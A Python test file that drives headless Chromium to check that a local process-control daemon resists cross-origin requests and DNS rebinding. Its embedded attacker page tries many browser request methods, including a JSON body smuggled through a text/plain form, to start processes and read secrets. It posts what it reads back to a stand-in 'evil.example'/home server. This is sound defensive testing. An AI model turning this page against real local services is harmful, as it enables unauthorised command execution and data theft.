"""What a web page in a real browser can do to the daemon: nothing, whatever way it asks, and not by DNS rebinding.

A page of another origin tries all the ways a page has to send a request and tells its own server what it could read.
Each of its requests would start a program that leaves a mark. Between the page and the daemon stands a door that passes
bytes on as they are and notes them, so that a test knows that a request came in and how it was answered.

The same page, through an open door that lets everybody do everything, reads and starts: it can do what it is meant to.
"""
import base64
import contextlib
import hashlib
import http.client
import http.server
import json
import os
import re
import select
import shutil
import signal
import socket
import subprocess
import threading
import typing
import unittest
import urllib.parse

import harness

CHROMIUM = shutil.which("chromium")
EVIL = "evil.example"
OPTIONS = (
    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
    "--no-default-browser-check", "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-extensions", "--no-proxy-server", f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
)
SECRET = "label-of-my-secret-process"


class Way(typing.NamedTuple):
    """What a page gets of it where everything is allowed."""

    starts: bool
    reads: bool


WAYS = {
    "fetch-text": Way(True, True),
    "fetch-json": Way(True, True),  # asks beforehand, with OPTIONS
    "fetch-no-type": Way(True, True),
    "fetch-no-cors": Way(True, False),
    "fetch-credentials": Way(True, True),
    "fetch-keepalive": Way(True, True),
    "fetch-put": Way(True, True),
    "xhr": Way(True, True),
    "beacon-text": Way(True, False),
    "beacon-json": Way(True, False),
    "form": Way(True, False),
    "list": Way(False, True),
    "get": Way(False, True),
    "get-no-cors": Way(False, False),
    "page": Way(False, True),  # /healthz
    "delete": Way(False, True),
    "events": Way(False, True),
    "script": Way(False, True),
    "module": Way(False, True),
    "image": Way(False, True),  # that it is one, at least
    "iframe": Way(False, True),  # how many frames it holds, at least
    "websocket": Way(False, True),
}

# Of a form only the text around one `=` can be chosen: the JSON is built around it.
PAGE = """<!doctype html><title>innocent</title><body><script>
const config = %s;
const results = {}, errors = {};
const url = (way, path = "/mcp") => config.target + path + "?" + way;
const call = (way, name, args) => ({jsonrpc: "2.0", id: way, method: "tools/call",
    params: {name: name, arguments: args, _meta: config.envelope}});
const start = way => JSON.stringify(call(way, "start_process",
    {command: ["touch", config.marks + "/" + way], working_directory: "/"}));
const modern = tool => ({"Content-Type": "application/json", "MCP-Protocol-Version": config.version,
    "Mcp-Method": "tools/call", "Mcp-Name": tool});
const post = (way, options) => fetch(url(way), {method: "POST", body: start(way), ...options}).then(r => r.text());
const append = (kind, properties) => document.body.appendChild(Object.assign(document.createElement(kind), properties));
const loading = (kind, properties, read) => new Promise((done, failed) => append(kind,
    {...properties, onload: event => done(read(event.target)), onerror: () => failed("not loaded")}));

const ways = {
    "fetch-text": way => post(way, {headers: {"Content-Type": "text/plain"}}),
    "fetch-json": way => post(way, {headers: modern("start_process")}),
    "fetch-no-type": way => post(way, {body: new Blob([start(way)])}),
    "fetch-no-cors": way => post(way, {mode: "no-cors"}),
    "fetch-credentials": way => post(way, {credentials: "include"}),
    "fetch-keepalive": way => post(way, {keepalive: true}),
    "fetch-put": way => post(way, {method: "PUT", headers: modern("start_process")}),
    "xhr": way => new Promise((done, failed) => {
        const request = new XMLHttpRequest();
        request.onload = () => done(request.responseText);
        request.onerror = () => failed("refused");
        request.open("POST", url(way));
        request.send(start(way));
    }),
    "beacon-text": async way => { navigator.sendBeacon(url(way), start(way)); },
    "beacon-json": async way => {
        navigator.sendBeacon(url(way), new Blob([start(way)], {type: "application/json"}));
    },
    "form": way => new Promise(done => {
        const frame = append("iframe", {name: "answer"});
        const form = append("form", {action: url(way), method: "POST", enctype: "text/plain", target: "answer"});
        const input = document.createElement("input");
        input.name = start(way).slice(0, -1) + ',"x":"';
        input.value = '"}';
        form.appendChild(input);
        frame.onload = () => done(frame.contentDocument ? frame.contentDocument.body.innerText : "");
        form.submit();
    }),
    "list": way => fetch(url(way), {method: "POST", headers: modern("list_processes"),
        body: JSON.stringify(call(way, "list_processes", {}))}).then(r => r.text()),
    "get": way => fetch(url(way)).then(r => r.text()),
    "get-no-cors": way => fetch(url(way), {mode: "no-cors"}).then(r => r.text()),
    "page": way => fetch(url(way, "/healthz")).then(r => r.text()),
    "delete": way => fetch(url(way), {method: "DELETE", headers: {"Mcp-Session-Id": config.session}})
        .then(r => "status " + r.status),
    "events": way => new Promise((done, failed) => {
        const source = new EventSource(url(way));
        source.onmessage = event => { source.close(); done(event.data); };
        source.onerror = () => { source.close(); failed("refused"); };
    }),
    "script": way => loading("script", {src: url(way)}, () => window.stolen),
    "module": way => loading("script", {src: url(way), type: "module"}, () => window.stolenByModule),
    "image": way => loading("img", {src: url(way)}, image => "an image of " + image.naturalWidth),
    "iframe": way => loading("iframe", {src: url(way)}, frame => frame.contentDocument
        ? frame.contentDocument.body.innerText
        : frame.contentWindow.length > 0 ? "frames inside: " + frame.contentWindow.length : ""),
    "websocket": way => new Promise((done, failed) => {
        const socket = new WebSocket(url(way).replace("http", "ws"));
        socket.onmessage = event => done(event.data);
        socket.onerror = () => failed("refused");
        socket.onclose = () => failed("closed");
    }),
};

const attempt = way => ways[way](way).then(
    text => { results[way] = text || ""; },
    error => { errors[way] = String(error); });
const run = async () => {
    await Promise.all(Object.keys(ways).map(attempt));
    await fetch(config.home + "/results", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
        body: JSON.stringify({page: config.page, origin: location.origin, results: results, errors: errors})});
    if (config.next) location.href = config.next;
};
if (document.readyState === "complete") run(); else window.onload = run;
</script>"""


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def __init__(self, handler):
        super().__init__(("127.0.0.1", 0), handler)
        self.port = self.server_address[1]
        self.pages = {}  # by path
        self.thread = threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def handle_error(self, request, client_address):
        """A browser drops connections as it likes."""

    def end(self):
        self.shutdown()
        self.server_close()
        self.thread.join()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def answer(self, status, kind, body, headers=()):
        self.send_response(status)
        for name, value in (("Content-Type", kind), ("Content-Length", str(len(body))), *headers):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def answer_page(self):
        """False: there is none at this path."""
        page = self.server.pages.get(self.path)
        if page is not None:
            self.answer(200, "text/html", page.encode())
        return page is not None


class Home(Handler):
    """The attacker's own server: its pages, and what they report."""

    def do_GET(self):
        if not self.answer_page():
            self.answer(404, "text/plain", b"")

    def do_POST(self):
        self.server.reports.append(json.loads(self.body()))
        self.answer(200, "text/plain", b"")


class Open(Handler):
    """The daemon as it must not be: whoever asks is let in, may do everything and read everything."""

    def allowed(self):
        return (
            ("Access-Control-Allow-Origin", self.headers.get("Origin", "*")),
            ("Access-Control-Allow-Credentials", "true"),
            ("Access-Control-Allow-Methods", "POST, GET, DELETE, PUT"),
            ("Access-Control-Allow-Headers", self.headers.get("Access-Control-Request-Headers", "*")),
        )

    def ask(self, method, body, headers):
        connection = http.client.HTTPConnection("127.0.0.1", self.server.daemon_port, timeout=harness.PATIENCE)
        with contextlib.closing(connection):
            connection.request(method, "/mcp", body, headers)
            answer = connection.getresponse()
            return answer.status, answer.read()

    def call(self, body):
        message = json.loads(body)
        return self.ask("POST", json.dumps(message), {
            "Content-Type": "application/json",
            "Accept": "application/json",
            "MCP-Protocol-Version": harness.MODERN,
            "Mcp-Method": message["method"],
            "Mcp-Name": message["params"]["name"],
        })

    def do_OPTIONS(self):
        self.answer(200, "text/plain", b"", self.allowed())

    def do_POST(self):
        status, body = self.call(self.body())
        self.answer(status, "application/json", body, self.allowed())

    do_PUT = do_POST

    def do_DELETE(self):
        status, body = self.ask("DELETE", None, {"Mcp-Session-Id": self.headers["Mcp-Session-Id"]})
        self.answer(status, "text/plain", body, self.allowed())

    def do_GET(self):
        if self.answer_page():
            return
        way = urllib.parse.urlsplit(self.path).query
        if way == "websocket":
            return self.answer_websocket(SECRET.encode())
        if way not in WAYS:
            return self.answer(404, "text/plain", b"")
        secret = json.dumps(SECRET)
        kind, text = {
            "events": ("text/event-stream", f"data: {SECRET}\n\n"),
            "script": ("text/javascript", f"window.stolen = {secret};"),
            "module": ("text/javascript", f"window.stolenByModule = {secret};"),
            "image": ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" width="77" height="1"/>'),
            "iframe": ("text/html", f"<body>{SECRET}<iframe></iframe><iframe></iframe></body>"),
        }.get(way, ("text/plain", SECRET))
        self.answer(200, kind, text.encode(), self.allowed())

    def answer_websocket(self, text):
        key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())
        self.end_headers()
        self.wfile.write(bytes([0x81, len(text)]) + text + b"\x88\0")
        self.close_connection = True


class Door:
    """Passes bytes on to the daemon as they are, and notes them. Until the name is bound anew, it is the attacker's."""

    def __init__(self, port):
        self.daemon_port = port
        self.page = None  # answered to the first request, by the server that the name stood for then
        self.passed = []  # [bytes of the client, bytes of the daemon] of each connection
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=128)
        self.port = self.listener.getsockname()[1]
        self.stop, self.stopped = socket.socketpair()
        self.threads = [threading.Thread(target=self.accept, daemon=True)]
        self.threads[0].start()

    def accept(self):
        while self.listener in select.select([self.listener, self.stopped], [], [])[0]:
            client, _ = self.listener.accept()
            self.threads.append(threading.Thread(target=self.serve, args=(client,), daemon=True))
            self.threads[-1].start()

    def serve(self, client):
        with client, contextlib.suppress(OSError):
            # A browser opens connections in advance and closes some unused: whose one is shows when it asks.
            if client not in select.select([client, self.stopped], [], [])[0]:
                return
            if not client.recv(1, socket.MSG_PEEK):
                return
            page, self.page = self.page, None
            if page is not None:
                return self.answer_page(client, page.encode())
            with socket.create_connection(("127.0.0.1", self.daemon_port)) as daemon:
                self.pass_on(client, daemon)

    def answer_page(self, client, page):
        asked = b""
        while b"\r\n\r\n" not in asked:
            more = client.recv(65536)
            if not more:
                return
            asked += more
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                       b"Content-Length: %d\r\n\r\n" % len(page) + page)

    def pass_on(self, client, daemon):
        noted = [bytearray(), bytearray()]
        self.passed.append(noted)
        others = {client: (daemon, noted[0]), daemon: (client, noted[1])}
        while True:
            ready, _, _ = select.select([client, daemon, self.stopped], [], [])
            if self.stopped in ready:
                return
            for each in ready:
                data = each.recv(65536)
                if not data:
                    return
                other, note = others[each]
                note += data
                other.sendall(data)

    def answered(self):
        """(method, way, status) of each request that was answered."""
        out = []
        for asked, said in list(self.passed):
            requests = re.findall(rb"(?m)^([A-Z]+) (\S+) HTTP/1\.1\r$", bytes(asked))
            statuses = re.findall(rb"HTTP/1\.1 (\d{3}) ", bytes(said))
            for (method, target), status in zip(requests, statuses):
                # A browser looks for an icon by itself.
                if b"?" in target:
                    out.append((method.decode(), target.split(b"?")[1].decode(), int(status)))
        return out

    def end(self):
        self.stop.close()
        for thread in self.threads:
            thread.join()
        self.listener.close()
        self.stopped.close()


@unittest.skipUnless(CHROMIUM, "needs chromium")
class Pages(harness.TestCase):
    def setUp(self):
        super().setUp()
        self.start(SECRET, ["sleep", "600"])
        self.client = self.mcp()
        self.victim = self.mcp()
        self.home = Server(Home)
        self.home.reports = []
        self.addCleanup(self.home.end)

    def door(self):
        door = Door(self.daemon.port)
        self.addCleanup(door.end)
        return door

    def open_door(self):
        door = Server(Open)
        door.daemon_port = self.daemon.port
        self.addCleanup(door.end)
        return door

    def marks(self, number):
        path = self.place.scratch / f"marks{number}"
        path.mkdir(exist_ok=True)
        return path

    def page(self, number, target, following):
        return PAGE % json.dumps({
            "page": number,
            "target": target,
            "home": f"http://localhost:{self.home.port}",
            "marks": str(self.marks(number)),
            "session": self.victim.session,
            "version": harness.MODERN,
            "envelope": harness.ENVELOPE,
            "next": following,
        })

    def browse(self, pages):
        """Opens one page after the other, each of which leads to the next, and returns what each reported.

        `pages`: (address of the page, where its text is put, its target).
        """
        for number, (_, put, target) in enumerate(pages):
            put(self.page(number, target, pages[number + 1][0] if number + 1 < len(pages) else None))
        profile = self.place.root / "profile"
        complaints = self.place.root / "browser.stderr"
        with open(complaints, "wb") as stderr:
            browser = subprocess.Popen(
                [CHROMIUM, *OPTIONS, f"--user-data-dir={profile}", pages[0][0]], env=self.place.environment,
                cwd=self.place.work, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=stderr,
                start_new_session=True,
            )
        self.addCleanup(self.end_browser, browser, profile)
        harness.eventually(
            "the pages report", lambda: len(self.home.reports) == len(pages) or browser.poll() is not None,
            harness.PATIENCE * 2,
        )
        self.assertEqual([report["page"] for report in self.home.reports], list(range(len(pages))),
                         complaints.read_text(errors="replace")[-2000:])
        return self.home.reports

    def end_browser(self, browser, profile):
        with contextlib.suppress(ProcessLookupError):
            os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()

        def gone():
            left = harness.processes_of(profile)
            for pid, _ in left:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
            return not left

        harness.eventually("the browser is gone", gone)

    def at_home(self, host, number):
        """The address of a page on the attacker's own server, and how its text comes there."""
        path = f"/page{number}"
        return f"http://{host}:{self.home.port}{path}", lambda text: self.home.pages.__setitem__(path, text)

    def check_untouched(self, count):
        for number in range(count):
            self.assertEqual(list(self.marks(number).iterdir()), [])
        views = self.client.call("list_processes").structured["processes"]
        self.assertEqual([view["label"] for view in views], [SECRET])
        # Its session was to be ended.
        self.assertEqual(self.victim.request("ping"), {})

    def wait_for_answers(self, door, times):
        """Each way's request came in and was answered, also of those that tell a page nothing."""
        def missing():
            ways = [way for _, way, _ in door.answered()]
            return {way for way in WAYS if ways.count(way) < times}

        harness.eventually("every request is answered", lambda: not missing())
        return door.answered()

    def test_an_open_door_is_gone_through(self):
        """The control: what the pages of the other tests could do if nothing held them up."""
        door = self.open_door()
        pages = [
            (*self.at_home("localhost", 0), f"http://127.0.0.1:{door.port}"),
            # The same name and port for page and target, as after rebinding.
            (f"http://{EVIL}:{door.port}/page", lambda text: door.pages.__setitem__("/page", text),
             f"http://{EVIL}:{door.port}"),
        ]
        for report in self.browse(pages):
            with self.subTest(report["origin"]):
                is_rebound = report["page"] == 1
                for name, way in WAYS.items():
                    # One's own origin is read in every way but by beacons, which have no answer.
                    if way.reads or is_rebound and not name.startswith("beacon-"):
                        self.assertTrue(report["results"].get(name), (name, report["errors"].get(name)))
                    else:
                        self.assertFalse(report["results"].get(name), name)
                for name in ("list", "get", "events", "script", "module", "websocket"):
                    self.assertIn(SECRET, report["results"][name])
                self.assertIn(SECRET if is_rebound else "frames inside: 2", report["results"]["iframe"])
                self.assertEqual(report["results"]["image"], "an image of 77")
                # The first page has ended the session.
                self.assertEqual(report["results"]["delete"], "status 404" if report["page"] else "status 200")
                wanted = sorted(name for name, way in WAYS.items() if way.starts)
                harness.eventually(
                    f"each way has started its program: {wanted}",
                    lambda: sorted(mark.name for mark in self.marks(report["page"]).iterdir()) == wanted,
                )

    def test_pages_of_others_do_nothing(self):
        door = self.door()
        pages = [
            (*self.at_home(host, number), f"http://{target}:{door.port}")
            for number, (host, target) in enumerate([
                ("localhost", "127.0.0.1"),
                ("localhost", "localhost"),  # the same site, as the development servers that run here are
                (EVIL, "127.0.0.1"),
                (EVIL, "localhost"),
            ])
        ]
        for report in self.browse(pages):
            with self.subTest(report["origin"], target=pages[report["page"]][2]):
                self.assertEqual({way: text for way, text in report["results"].items() if text}, {})
                self.assertEqual(set(report["results"]) | set(report["errors"]), set(WAYS))
        answers = self.wait_for_answers(door, len(pages))
        self.assertEqual({(way, status) for _, way, status in answers}, {(way, 403) for way in WAYS})
        self.check_untouched(len(pages))

    def test_rebinding_does_nothing(self):
        self.check_page_of_the_same_origin(EVIL, "Host must be", {403})

    def test_a_page_of_whoever_held_the_port_before_does_nothing(self):
        # Nothing says that the handshake of a WebSocket comes from a page but its Origin; a GET has no effect.
        self.check_page_of_the_same_origin("localhost", "web pages are not allowed", {403, 405})

    def check_page_of_the_same_origin(self, host, reason, statuses):
        """The page came from the name and port that lead to the daemon now: to the browser it is the daemon's own."""
        door = self.door()
        address = f"http://{host}:{door.port}"
        (report,) = self.browse([(f"{address}/", lambda text: setattr(door, "page", text), address)])
        self.assertEqual(report["origin"], address)
        answers = self.wait_for_answers(door, 1)
        self.assertEqual({status for _, way, status in answers if way != "websocket"}, {403})
        self.assertLessEqual({status for _, _, status in answers}, statuses)
        # It may read that it was turned away, and nothing else.
        self.assertIn(reason, report["results"]["list"])
        for way, text in report["results"].items():
            with self.subTest(way):
                self.assertTrue(text in ("", "status 403") or reason in text, text)
                self.assertNotIn(SECRET, text)
        self.check_untouched(1)


if __name__ == "__main__":
    harness.main()
